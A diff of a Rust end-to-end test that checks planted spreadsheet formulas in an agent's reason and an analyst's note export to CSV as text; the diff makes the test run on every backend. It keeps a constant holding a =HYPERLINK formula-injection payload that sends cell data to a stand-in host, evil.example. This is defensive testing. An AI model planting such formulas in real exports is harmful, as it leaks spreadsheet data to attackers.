@@ -2,9 +2,8 @@
 //! agent's reason and an analyst's note that start with `=` open as text.
 
 use bfp_common::wire::CONTENT_TYPE;
-use bfp_e2e::agent::temp_dir;
 use bfp_e2e::forward::{device_add, post_auth, sample_batch};
-use bfp_e2e::{get, Collector};
+use bfp_e2e::{get, Backend, Collector};
 use serde_json::json;
 
 const PLANTED: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
@@ -22,8 +21,15 @@ fn cells(csv: &str, containing: &str) -> Vec<String> {
 
 #[test]
 fn planted_formulas_export_as_text() {
-    let dir = temp_dir();
-    let db = dir.path().join("app.db");
+    for backend in Backend::ALL {
+        planted_formulas_export_as_text_on(backend);
+    }
+}
+
+fn planted_formulas_export_as_text_on(backend: Backend) {
+    eprintln!("backend: {backend:?}");
+    let dir = backend.fresh();
+    let db = dir.db().to_os_string();
     let token = device_add(&db, "pi-1");
     let c = Collector::start(&db, &[]);
     let mut batch = sample_batch(1, 1);
